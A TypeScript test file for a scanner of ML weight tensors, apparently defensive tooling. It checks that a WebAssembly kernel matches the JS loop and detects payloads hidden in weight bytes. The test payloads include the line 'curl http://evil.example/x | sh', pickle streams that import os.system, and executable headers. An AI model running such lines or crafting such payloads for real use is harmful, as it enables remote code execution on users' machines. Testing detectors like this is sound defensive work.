/**
 * The WebAssembly SIMD kernel of the f32, f16 and bf16 weight scan (src/scan/weights/kernel-f32.c) against the
 * pure-JS loop it replaces: identical statistics (every count, histogram, window, signature) on
 * random and adversarial inputs, for any chunking and alignment; and the committed binary is what
 * scripts/build-wasm.mjs builds from the committed C source.
 */
import assert from 'node:assert/strict'
import {spawnSync} from 'node:child_process'
import {readFileSync} from 'node:fs'
import path from 'node:path'
import {describe, it} from 'node:test'

import type {TensorView} from '../../../src/formats/tensor.js'
import type {Partial} from '../../../src/scan/weights/accumulate.js'
import {f32Kernel, useF32Kernel} from '../../../src/scan/weights/kernel.js'
import {MAGIC2} from '../../../src/scan/weights/signatures.js'
import {accumulateRange, type RangeReader, scanTensor} from '../../../src/scan/weights/scan-tensor.js'
import {mergePartials} from '../../../src/scan/weights/tensor-findings.js'
import {repoRoot} from '../../helpers/cli.js'
import {rng} from '../../helpers/random.js'

const ELF = readFileSync(path.join(repoRoot, 'testdata', 'weights', 'tiny.elf'))
const TEXT = new TextEncoder().encode('#!/bin/sh\ncurl http://evil.example/x | sh\n'.repeat(400))
const PICKLE = Uint8Array.from([
  0x80,
  0x04,
  0x95,
  0x20,
  0,
  0,
  0,
  0,
  0,
  0,
  0,
  0x8c,
  0x02,
  0x6f,
  0x73,
  0x94,
  0x8c,
  0x06,
  ...new TextEncoder().encode('system'),
  0x94,
  0x93,
  0x94,
])
const ZIP = Uint8Array.from([
  0x50,
  0x4b,
  3,
  4,
  20,
  0,
  0,
  0,
  8,
  0,
  0,
  0,
  0,
  0,
  0,
  0,
  0,
  0,
  0,
  0,
  0,
  0,
  0,
  0,
  0,
  0,
  7,
  0,
  0,
  0,
  ...new TextEncoder().encode('evil.py'),
])

/** Float32 words of one kind of input. */
function words(kind: string, n: number, seed: number): Uint32Array {
  const r = rng(seed)
  const u = new Uint32Array(n)
  const f = new Float32Array(u.buffer)
  const rnd32 = () => (r() * 4294967296) >>> 0
  for (let i = 0; i < n; i++) {
    const g = Math.sqrt(-2 * Math.log(Math.max(r(), 1e-12))) * Math.cos(2 * Math.PI * r()) * 0.02
    switch (kind) {
      case 'trained':
        f[i] = g
        break
      case 'random':
        u[i] = rnd32()
        break
      case 'special': {
        // every exponent class: zeros, denormals, normals, +-inf, canonical and payload NaNs
        const c = r()
        const sign = r() < 0.5 ? 0x80000000 : 0
        if (c < 0.1) u[i] = sign
        else if (c < 0.2) u[i] = sign | (rnd32() & 0x7fffff)
        else if (c < 0.25) u[i] = sign | 0x7f800000
        else if (c < 0.3) u[i] = sign | 0x7fc00000
        else if (c < 0.35) u[i] = sign | 0x7f800000 | (rnd32() & 0x7fffff || 1)
        else if (c < 0.4) u[i] = sign | ((Math.floor(r() * 256) << 23) >>> 0) | (rnd32() & 0x7fffff)
        else f[i] = g
        u[i] >>>= 0
        break
      }
      case 'pruned':
        f[i] = r() < 0.6 ? 0 : g
        break
      case 'upcast':
        // fp16-exact values with a dense run of non-zero low bits
        f[i] = g
        u[i] = (u[i] & ~0x1fff) >>> 0
        if (i > n / 3 && i < n / 3 + 3000 && r() < 0.5) u[i] = (u[i] | (rnd32() & 0x1fff)) >>> 0
        break
      case 'bf16':
        f[i] = g
        u[i] = (u[i] & 0xffff0000) >>> 0
        break
      case 'constant':
        u[i] = 0x3c23d70a
        break
      case 'magics':
        // every element a two-byte magic in both probes (far more than 64 candidates per half)
        f[i] = g
        u[i] = ((u[i] & 0xffff0000) | (i % 2 ? 0x5a4d : 0x4d4d)) >>> 0
        break
      case 'printable':
        f[i] = g
        u[i] = ((u[i] & 0xffff0000) | (0x20 + (rnd32() % 95)) | ((0x20 + (rnd32() % 95)) << 8)) >>> 0
        break
      case 'xor':
        f[i] = g
        u[i] = ((u[i] & ~0xff) | (0x41 + (rnd32() % 6))) >>> 0
        break
      default:
        throw new Error(kind)
    }
  }
  return u
}

/** Hides a payload in the k low bytes of elements from `at` (k = 4: raw bytes). */
function hide(u: Uint32Array, payload: Uint8Array, k: number, at: number): void {
  const b = new Uint8Array(u.buffer, u.byteOffset, u.byteLength)
  let p = 0
  for (let e = at; p < payload.length && e < u.length; e++) for (let j = 0; j < k && p < payload.length; j++) b[e * 4 + j] = payload[p++]
}

/** Everything but the bookkeeping fields the two paths keep differently (lazy counters). */
function norm(p: Partial): unknown {
  const half = (h: Partial['head']) => h && {index: h.index, n: h.n, zeros: h.zeros, t13: h.t13, h0: Array.from(h.h0), h1: Array.from(h.h1)}
  return {...p, head: half(p.head), tail: half(p.tail)}
}

/** A reader over `bytes` that, like the file readers, writes into `into` when given. */
function copyingReader(bytes: Uint8Array): RangeReader {
  return (pos, len, into) => {
    const src = bytes.subarray(pos, Math.min(bytes.length, pos + len))
    if (!into) return src
    into.set(src)
    return into.subarray(0, src.length)
  }
}

async function both(bytes: Uint8Array, from: number, to: number, chunkBytes: number, reader: 'memory' | 'into'): Promise<[unknown, unknown]> {
  const read: RangeReader = reader === 'into' ? copyingReader(bytes) : (pos, len) => bytes.subarray(pos, Math.min(bytes.length, pos + len))
  useF32Kernel(false)
  const js = await accumulateRange('f32', read, from, to, chunkBytes)
  useF32Kernel(true)
  const wasm = await accumulateRange('f32', read, from, to, chunkBytes)
  return [norm(mergePartials([js])), norm(mergePartials([wasm]))]
}

describe('f32 weight kernel (WebAssembly SIMD) vs the JS loop', () => {
  it('is available on this Node (otherwise the differential below compares JS with JS)', () => {
    assert.ok(f32Kernel(), 'WebAssembly SIMD kernel failed to load')
  })

  const kinds = ['trained', 'random', 'special', 'pruned', 'upcast', 'bf16', 'constant', 'magics', 'printable', 'xor']
  for (const kind of kinds) {
    it(`same statistics: ${kind}`, async () => {
      const r = rng(kind.length * 7919)
      for (const n of [1, 3, 2047, 2048, 2049, 4097, 20_000 + Math.floor(r() * 5000)]) {
        const u = words(kind, n, n ^ kind.length)
        if (n > 9000 && kind === 'trained') {
          hide(u, ELF, 1, 100)
          hide(u, PICKLE, 2, 3000)
          hide(u, ZIP, 3, 6000)
          hide(u, TEXT.subarray(0, 2000), 4, 8000)
          hide(u, TEXT, 1, 10_000)
        }
        // odd byte offset: the JS path copies to align, the kernel reads unaligned
        const shifted = new Uint8Array(u.byteLength + 1).subarray(1)
        shifted.set(new Uint8Array(u.buffer))
        for (const [bytes, reader, chunk] of [
          [new Uint8Array(u.buffer), 'memory', 4 << 20],
          [shifted, 'memory', 4 << 20],
          [new Uint8Array(u.buffer), 'into', 4 * 2048 * 3],
          // chunks that end inside halves and blocks
          [new Uint8Array(u.buffer), 'into', 4 * 1500 + 4],
        ] as Array<[Uint8Array, 'memory' | 'into', number]>) {
          const [js, wasm] = await both(bytes, 0, n, chunk, reader)
          assert.deepEqual(wasm, js, `${kind} n=${n} ${reader} chunk=${chunk}`)
        }
        if (n > 4096) {
          // a range starting inside the tensor, as a worker's job does
          const [js, wasm] = await both(new Uint8Array(u.buffer), 2048, n - 5, 4 * 2048 * 2, 'into')
          assert.deepEqual(wasm, js, `${kind} n=${n} sub-range`)
        }
      }
    })
  }

  it('same findings for payload-carrying tensors, either path', async () => {
    const u = words('trained', 60_000, 3)
    hide(u, ELF, 1, 500)
    hide(u, ELF, 2, 9000)
    hide(u, ELF, 3, 20_000)
    hide(u, ELF, 4, 30_000)
    hide(u, TEXT, 1, 40_000)
    const t: TensorView = {name: 'layer.weight', dtype: 'f32', shape: [u.length], byteOffset: 64, byteLength: u.byteLength, data: new Uint8Array(u.buffer)}
    useF32Kernel(false)
    const js = await scanTensor(t)
    useF32Kernel(true)
    const wasm = await scanTensor(t)
    assert.deepEqual(wasm, js)
    assert.ok(js.filter((f) => f.id === 'MS-WG001').length >= 4, JSON.stringify(js.map((f) => f.id)))
    assert.ok(js.some((f) => f.id === 'MS-WG002'))
  })

  it('ranges running at once on one thread (kernel areas all held: the JS loop) give the same result', async () => {
    const u = words('trained', 50_000, 9)
    hide(u, ELF, 1, 700)
    const bytes = new Uint8Array(u.buffer)
    useF32Kernel(true)
    let gate: () => void = () => {}
    const wait = new Promise<void>((res) => (gate = res))
    const slow: RangeReader = async (pos, len, into) => {
      await wait
      return copyingReader(bytes)(pos, len, into)
    }
    const held = [0, 1, 2].map(() => accumulateRange('f32', slow, 0, u.length, 4 * 2048 * 4))
    const alone = await accumulateRange('f32', copyingReader(bytes), 0, u.length, 4 * 2048 * 4)
    // a larger area than the ones held: cannot grow the memory now
    const bigger = await accumulateRange('f32', copyingReader(bytes), 0, u.length, 4 * 2048 * 16)
    gate()
    for (const p of [...(await Promise.all(held)), bigger]) assert.deepEqual(norm(mergePartials([p])), norm(mergePartials([alone])))
    useF32Kernel(false)
    const js = await accumulateRange('f32', copyingReader(bytes), 0, u.length, 4 * 2048 * 4)
    useF32Kernel(true)
    assert.deepEqual(norm(mergePartials([js])), norm(mergePartials([alone])))
  })
})

/** What the kernel's stats_f32 must return, computed the JS hot loop's way. */
function reference(u: Uint32Array, prev: number, first: number) {
  let zb0 = 0
  let pr0 = 0
  let pr1 = 0
  let mx = 0
  let diff = 0
  const cands: number[] = []
  for (let i = 0; i < u.length; i++) {
    const x = u[i]
    const b0 = x & 255
    const b1 = (x >>> 8) & 255
    if (b0 === 0) zb0++
    if (b0 >= 0x20 && b0 < 0x7f) pr0++
    if (b1 >= 0x20 && b1 < 0x7f) pr1++
    const t = ((x & 0x7fffffff) - 0x00800000) >>> 0
    if (t > mx) mx = t
    if (x !== first) diff = 1
    if ((MAGIC2[x & 0xffff] | MAGIC2[prev | (b0 << 8)]) !== 0) cands.push(i)
    prev = b0
  }
  return {zb0, pr0, pr1, mx, diff, cands}
}

describe('kernel functions against their definitions', () => {
  // every two-byte magic, as (b0, b1) of one element and as the lowest bytes of two neighbours
  const PAIRS: Array<[number, number]> = []
  for (let v = 0; v < 65536; v++) if (MAGIC2[v]) PAIRS.push([v & 255, v >>> 8])

  it('stats_f32: counts, maximum, constant flag and every candidate, at every offset and length', () => {
    const k = f32Kernel()!
    // Up to 3 × 4096 + 1000 elements: the byte counters are flushed every 255 passes of 16
    // elements, and all-printable or all-zero-byte words fill them to exactly 255 before a flush.
    const region = k.acquire(4 * 13288)!
    try {
      const r = rng(77)
      for (let trial = 0; trial < 460; trial++) {
        const n = trial < 100 ? trial : trial < 400 ? 1 + Math.floor(r() * 3000) : 4070 + Math.floor(r() * 9200)
        const u = words(['trained', 'random', 'special', 'printable', 'constant', 'pruned', 'bf16'][trial % (trial < 400 ? 5 : 7)], n, trial)
        // magics planted at offsets that hit every lane of the 16-element blocks and the tail
        for (let m = 0; m < 1 + (trial % 7); m++) {
          if (n < 2) break
          const [a, b] = PAIRS[Math.floor(r() * PAIRS.length)]
          const at = Math.floor(r() * (n - 1))
          if (r() < 0.5) u[at] = ((u[at] & 0xffff0000) | a | (b << 8)) >>> 0
          else (u[at] = ((u[at] & ~255) | a) >>> 0), (u[at + 1] = ((u[at + 1] & ~255) | b) >>> 0)
        }
        const prev = trial % 3 === 0 ? PAIRS[trial % PAIRS.length][0] : Math.floor(r() * 256)
        if (trial % 3 === 0 && n > 0) u[0] = ((u[0] & ~255) | PAIRS[trial % PAIRS.length][1]) >>> 0
        const first = trial % 4 === 0 && n > 0 ? u[0] : (r() * 4294967296) >>> 0
        new Uint8Array(k.fn.memory.buffer, region.addr, n * 4).set(new Uint8Array(u.buffer, 0, n * 4))
        const nc = k.fn.stats_f32(region.addr, n, prev, first)
        const want = reference(u, prev, first)
        const o = k.out
        assert.deepEqual(
          {zb0: o[0], pr0: o[1], pr1: o[2], mx: o[3], diff: o[4], nc, cands: Array.from(k.cands.subarray(0, Math.min(nc, 64)))},
          {...want, mx: n ? want.mx : 0, nc: want.cands.length, cands: want.cands.slice(0, 64)},
          `trial ${trial} n=${n}`,
        )
      }
    } finally {
      region.release()
    }
  })

  it('exact_f32, t13_f32 and hist_f32', () => {
    const k = f32Kernel()!
    const region = k.acquire(4 * 4096)!
    try {
      for (let trial = 0; trial < 60; trial++) {
        const n = trial * 37
        const u = words(['special', 'upcast', 'bf16', 'random', 'pruned'][trial % 5], n, trial + 5)
        new Uint8Array(k.fn.memory.buffer, region.addr, n * 4).set(new Uint8Array(u.buffer, 0, n * 4))
        k.fn.exact_f32(region.addr, n)
        k.fn.t13_f32(region.addr, n)
        k.fn.hist_f32(region.addr, n)
        const c = {zeros: 0, den: 0, pinf: 0, ninf: 0, nan: 0, pay: 0, maxa: 0, t13: 0, t16: 0}
        const h = new Uint32Array(512)
        for (const x of u) {
          const a = x & 0x7fffffff
          if (a === 0) c.zeros++
          else if (a < 0x00800000) c.den++
          else if (a === 0x7f800000) x >>> 31 ? c.ninf++ : c.pinf++
          else if (a > 0x7f800000) {
            c.nan++
            if ((a & 0x7fffff) !== 0x400000) c.pay++
          } else if (a > c.maxa) c.maxa = a
          if ((x & 0x1fff) === 0) c.t13++
          if ((x & 0xffff) === 0) c.t16++
          h[x & 255]++
          h[256 + ((x >>> 8) & 255)]++
        }
        const o = k.out
        assert.deepEqual({zeros: o[8], den: o[9], pinf: o[10], ninf: o[11], nan: o[12], pay: o[13], maxa: o[14], t13: o[6], t16: o[7]}, c, `trial ${trial}`)
        assert.deepEqual(Array.from(k.hist), Array.from(h))
      }
    } finally {
      region.release()
    }
  })
})

describe('committed kernel binary', () => {
  it('is what scripts/build-wasm.mjs builds from kernel-f32.c', (t) => {
    const r = spawnSync(process.execPath, [path.join(repoRoot, 'scripts', 'build-wasm.mjs'), '--check'], {cwd: repoRoot, encoding: 'utf8'})
    if (r.status === 2) {
      t.skip(`C toolchain for wasm32 not installed (apt-get install clang lld): ${r.stderr.trim()}`)
      return
    }
    assert.equal(r.status, 0, r.stdout + r.stderr)
  })
})

/** 16-bit float words (float16 or bfloat16 bit patterns) of a kind, reproducibly from `seed`. */
function words16(kind: string, n: number, seed: number, bf: boolean): Uint16Array {
  const r = rng(seed)
  const u = new Uint16Array(n)
  const expBits = bf ? 8 : 5
  const manBits = bf ? 7 : 10
  const bias = bf ? 127 : 15
  const expMask = ((1 << expBits) - 1) << manBits
  // a weight-like value: exponent a few below the bias, random mantissa and sign
  const weight = () => ((r() < 0.5 ? 0x8000 : 0) | ((bias - 2 - Math.floor(r() * 6)) << manBits) | Math.floor(r() * (1 << manBits))) & 0xffff
  for (let i = 0; i < n; i++) {
    switch (kind) {
      case 'trained':
        u[i] = weight()
        break
      case 'random':
        u[i] = Math.floor(r() * 65536)
        break
      case 'special': {
        // zeros, ±inf, NaNs (quiet and with payloads), denormals, the largest finite values
        const x = r()
        const sign = r() < 0.5 ? 0x8000 : 0
        if (x < 0.1) u[i] = sign
        else if (x < 0.2) u[i] = expMask | sign
        else if (x < 0.3) u[i] = expMask | (1 + Math.floor(r() * ((1 << manBits) - 1))) | sign
        else if (x < 0.4) u[i] = Math.floor(r() * (1 << manBits)) | sign
        else if (x < 0.45) u[i] = (expMask - (1 << manBits)) | ((1 << manBits) - 1)
        else u[i] = weight()
        break
      }
      case 'pruned':
        u[i] = r() < 0.6 ? 0 : weight()
        break
      case 'constant':
        u[i] = bf ? 0x3c23 : 0x2e1f
        break
      case 'magics':
        // every element a two-byte magic in both probes (far more than 64 candidates per half)
        u[i] = i % 2 ? 0x5a4d : 0x4d4d
        break
      case 'printable':
        u[i] = (weight() & 0xff00) | (0x20 + Math.floor(r() * 95))
        break
      case 'zerolow':
        u[i] = weight() & 0xff00
        break
      case 'xor':
        u[i] = (weight() & 0xff00) | (0x41 + Math.floor(r() * 6))
        break
      default:
        throw new Error(kind)
    }
  }
  return u
}

/** Hides a payload in the k low bytes of 16-bit elements from `at` (k = 2: raw bytes). */
function hide16(u: Uint16Array, payload: Uint8Array, k: number, at: number): void {
  const b = new Uint8Array(u.buffer, u.byteOffset, u.byteLength)
  let p = 0
  for (let e = at; p < payload.length && e < u.length; e++) for (let j = 0; j < k && p < payload.length; j++) b[e * 2 + j] = payload[p++]
}

describe('16-bit weight kernel (float16, bfloat16) vs the JS loop', () => {
  async function both16(kind: 'f16' | 'bf16', bytes: Uint8Array, from: number, to: number, chunkBytes: number, reader: 'memory' | 'into') {
    const read: RangeReader = reader === 'into' ? copyingReader(bytes) : (pos, len) => bytes.subarray(pos, Math.min(bytes.length, pos + len))
    useF32Kernel(false)
    const js = await accumulateRange(kind, read, from, to, chunkBytes)
    useF32Kernel(true)
    const wasm = await accumulateRange(kind, read, from, to, chunkBytes)
    return [norm(mergePartials([js])), norm(mergePartials([wasm]))]
  }

  for (const dtype of ['f16', 'bf16'] as const) {
    for (const kind of ['trained', 'random', 'special', 'pruned', 'constant', 'magics', 'printable', 'zerolow', 'xor']) {
      it(`same statistics: ${dtype} ${kind}`, async () => {
        const r = rng(kind.length * 104_729 + dtype.length)
        for (const n of [1, 3, 15, 17, 2047, 2048, 2049, 4097, 30_000 + Math.floor(r() * 5000)]) {
          const u = words16(kind, n, n ^ (kind.length * 31), dtype === 'bf16')
          if (n > 9000 && kind === 'trained') {
            hide16(u, ELF, 1, 100)
            hide16(u, PICKLE, 2, 3000)
            hide16(u, ZIP, 2, 6000)
            hide16(u, TEXT, 1, 10_000)
          }
          const shifted = new Uint8Array(u.byteLength + 1).subarray(1)
          shifted.set(new Uint8Array(u.buffer))
          for (const [bytes, reader, chunk] of [
            [new Uint8Array(u.buffer), 'memory', 4 << 20],
            [shifted, 'memory', 4 << 20],
            [new Uint8Array(u.buffer), 'into', 2 * 2048 * 3],
            // chunks that end inside halves and blocks
            [new Uint8Array(u.buffer), 'into', 2 * 1500 + 2],
          ] as Array<[Uint8Array, 'memory' | 'into', number]>) {
            const [js, wasm] = await both16(dtype, bytes, 0, n, chunk, reader)
            assert.deepEqual(wasm, js, `${dtype} ${kind} n=${n} ${reader} chunk=${chunk}`)
          }
          if (n > 4096) {
            const [js, wasm] = await both16(dtype, new Uint8Array(u.buffer), 2048, n - 5, 2 * 2048 * 2, 'into')
            assert.deepEqual(wasm, js, `${dtype} ${kind} n=${n} sub-range`)
          }
        }
      })
    }

    it(`same findings for payload-carrying ${dtype} tensors, either path`, async () => {
      const u = words16('trained', 80_000, 5, dtype === 'bf16')
      hide16(u, ELF, 1, 500)
      hide16(u, ELF, 2, 9000)
      hide16(u, TEXT, 1, 40_000)
      const t: TensorView = {name: 'layer.weight', dtype, shape: [u.length], byteOffset: 64, byteLength: u.byteLength, data: new Uint8Array(u.buffer)}
      useF32Kernel(false)
      const js = await scanTensor(t)
      useF32Kernel(true)
      const wasm = await scanTensor(t)
      assert.deepEqual(wasm, js)
      assert.ok(js.filter((f) => f.id === 'MS-WG001').length >= 2, JSON.stringify(js.map((f) => f.id)))
    })
  }

  it('stats_f16: counts, maximum, constant flag and every candidate, at every offset and length', () => {
    const k = f32Kernel()!
    const region = k.acquire(2 * 13288)!
    const PAIRS: Array<[number, number]> = []
    for (let v = 0; v < 65536; v++) if (MAGIC2[v]) PAIRS.push([v & 255, v >>> 8])
    try {
      const r = rng(99)
      for (let trial = 0; trial < 500; trial++) {
        const bf = trial % 2 === 0
        const n = trial < 100 ? trial : trial < 400 ? 1 + Math.floor(r() * 3000) : 4070 + Math.floor(r() * 9200)
        const u = words16(['trained', 'random', 'special', 'printable', 'constant', 'pruned', 'zerolow'][trial % 7], n, trial, bf)
        for (let m = 0; m < 1 + (trial % 7); m++) {
          if (n < 2) break
          const [a, b] = PAIRS[Math.floor(r() * PAIRS.length)]
          const at = Math.floor(r() * (n - 1))
          if (r() < 0.5) u[at] = a | (b << 8)
          else (u[at] = (u[at] & 0xff00) | a), (u[at + 1] = (u[at + 1] & 0xff00) | b)
        }
        const prev = trial % 3 === 0 ? PAIRS[trial % PAIRS.length][0] : Math.floor(r() * 256)
        const first = trial % 4 === 0 && n > 0 ? u[0] : Math.floor(r() * 65536)
        const expMask = bf ? 0x7f80 : 0x7c00
        new Uint8Array(k.fn.memory.buffer, region.addr, n * 2).set(new Uint8Array(u.buffer, 0, n * 2))
        const nc = k.fn.stats_f16(region.addr, n, prev, first, expMask)
        // the definition, the JS loop's way
        const want = {zb0: 0, pr0: 0, mx: 0, diff: 0, zeros: 0, pinf: 0, ninf: 0, nan: 0, cands: [] as number[]}
        let pb = prev
        for (let i = 0; i < n; i++) {
          const x = u[i]
          const lo = x & 255
          if (lo === 0) want.zb0++
          if (lo >= 0x20 && lo < 0x7f) want.pr0++
          const a = x & 0x7fff
          if (a === 0) want.zeros++
          else if ((a & expMask) === expMask) {
            if (a === expMask) x >>> 15 ? want.ninf++ : want.pinf++
            else want.nan++
          } else if (a > want.mx) want.mx = a
          if (x !== first) want.diff = 1
          if ((MAGIC2[x] | MAGIC2[pb | (lo << 8)]) !== 0) want.cands.push(i)
          pb = lo
        }
        const o = k.out
        assert.deepEqual(
          {
            zb0: o[0],
            pr0: o[1],
            mx: o[3],
            diff: o[4],
            zeros: o[8],
            pinf: o[10],
            ninf: o[11],
            nan: o[12],
            nc,
            cands: Array.from(k.cands.subarray(0, Math.min(nc, 64))),
          },
          {...want, nc: want.cands.length, cands: want.cands.slice(0, 64)},
          `trial ${trial} n=${n} ${bf ? 'bf16' : 'f16'}`,
        )
      }
    } finally {
      region.release()
    }
  })

  it('hist_f16: the lowest-byte histogram', () => {
    const k = f32Kernel()!
    const region = k.acquire(2 * 5000)!
    try {
      for (const n of [0, 1, 3, 4, 5, 1000, 4999]) {
        const u = words16('random', n, n + 1, false)
        new Uint8Array(k.fn.memory.buffer, region.addr, n * 2).set(new Uint8Array(u.buffer, 0, n * 2))
        k.fn.hist_f16(region.addr, n)
        const want = new Array(512).fill(0)
        for (const x of u) want[x & 255]++
        assert.deepEqual(Array.from(k.hist), want, `n=${n}`)
      }
    } finally {
      region.release()
    }
  })
})

describe('signature candidates: the quick prefix test never drops a payload the full check accepts', () => {
  const enc = new TextEncoder()
  // PROTO, then an opcode that is not the usual FRAME/GLOBAL/…, then an import within 64 bytes: pickle.loads still runs it.
  // NONE, POP pairs: opcodes a pickle may run before its import (60 bytes put the import late)
  const filler = (n: number) => Array.from({length: n}, (_, i) => (i % 2 ? 0x30 : 0x4e))
  const PICKLES = [
    Uint8Array.from([0x80, 0x04, 0x4b, 0x00, 0x8c, 0x02, ...enc.encode('os'), 0x94, 0x8c, 0x06, ...enc.encode('system'), 0x94, 0x93]),
    Uint8Array.from([0x80, 0x02, 0x4e, 0x30, 0x63, ...enc.encode('os\nsystem\n'), 0x85]),
    Uint8Array.from([0x80, 0x03, 0x88, 0x88, 0x30, 0x30, 0x63, ...enc.encode('posix\nsystem\n')]),
    // imports that end past the first 96 stream bytes: the candidate needs the longer look
    Uint8Array.from([0x80, 0x04, ...filler(60), 0x8c, 20, ...enc.encode('multiprocessing.util'), 0x94, 0x8c, 14, ...enc.encode('spawnv_passfds'), 0x94, 0x93]),
    Uint8Array.from([0x80, 0x02, ...filler(58), 0x63, ...enc.encode('multiprocessing.util\nspawnv_passfds\n'), 0x85]),
  ]
  const pickleHits = (fs: Awaited<ReturnType<typeof scanTensor>>) =>
    fs.filter((f) => f.id === 'MS-WG001' && (f.evidence as {signature?: string})?.signature === 'pickle').length

  for (const [i, payload] of PICKLES.entries()) {
    it(`pickle ${i + 1} (third byte 0x${payload[2].toString(16)}) in every f32 stream, either path`, async () => {
      for (const k of [1, 2, 3, 4]) {
        const u = words('trained', 20_000, 40 + k)
        hide(u, payload, k, 5000 + k)
        const t: TensorView = {name: 'w', dtype: 'f32', shape: [u.length], byteOffset: 0, byteLength: u.byteLength, data: new Uint8Array(u.buffer)}
        for (const kernel of [false, true]) {
          useF32Kernel(kernel)
          assert.ok(pickleHits(await scanTensor(t)) >= 1, `f32 k=${k} kernel=${kernel}`)
        }
      }
      useF32Kernel(true)
    })

    it(`pickle ${i + 1} in the f16 and bf16 streams, either path`, async () => {
      for (const dtype of ['f16', 'bf16'] as const) {
        for (const k of [1, 2]) {
          const u = words16('trained', 40_000, 70 + k, dtype === 'bf16')
          hide16(u, payload, k, 9000 + k)
          const t: TensorView = {name: 'w', dtype, shape: [u.length], byteOffset: 0, byteLength: u.byteLength, data: new Uint8Array(u.buffer)}
          for (const kernel of [false, true]) {
            useF32Kernel(kernel)
            assert.ok(pickleHits(await scanTensor(t)) >= 1, `${dtype} k=${k} kernel=${kernel}`)
          }
        }
      }
      useF32Kernel(true)
    })
  }

  it('a universal Mach-O header of 6 architectures (128 bytes) in every f32, f16 and bf16 stream', async () => {
    const be = (x: number) => [(x >>> 24) & 255, (x >>> 16) & 255, (x >>> 8) & 255, x & 255]
    const fat = Uint8Array.from([
      ...be(0xcafebabe),
      ...be(6),
      ...Array.from({length: 6}, (_, i) => [...be(0x01000007), ...be(3), ...be(4096 * (i + 1)), ...be(4096), ...be(12)]).flat(),
    ])
    const machoHits = (fs: Awaited<ReturnType<typeof scanTensor>>) =>
      fs.filter((f) => f.id === 'MS-WG001' && (f.evidence as {signature?: string})?.signature === 'macho').length
    for (const k of [1, 2, 3, 4]) {
      const u = words('trained', 20_000, 90 + k)
      hide(u, fat, k, 7000)
      const t: TensorView = {name: 'w', dtype: 'f32', shape: [u.length], byteOffset: 0, byteLength: u.byteLength, data: new Uint8Array(u.buffer)}
      for (const kernel of [false, true]) {
        useF32Kernel(kernel)
        assert.ok(machoHits(await scanTensor(t)) >= 1, `f32 k=${k} kernel=${kernel}`)
      }
    }
    for (const dtype of ['f16', 'bf16'] as const) {
      for (const k of [1, 2]) {
        const u = words16('trained', 40_000, 95 + k, dtype === 'bf16')
        hide16(u, fat, k, 9000)
        const t: TensorView = {name: 'w', dtype, shape: [u.length], byteOffset: 0, byteLength: u.byteLength, data: new Uint8Array(u.buffer)}
        for (const kernel of [false, true]) {
          useF32Kernel(kernel)
          assert.ok(machoHits(await scanTensor(t)) >= 1, `${dtype} k=${k} kernel=${kernel}`)
        }
      }
    }
    useF32Kernel(true)
  })
})
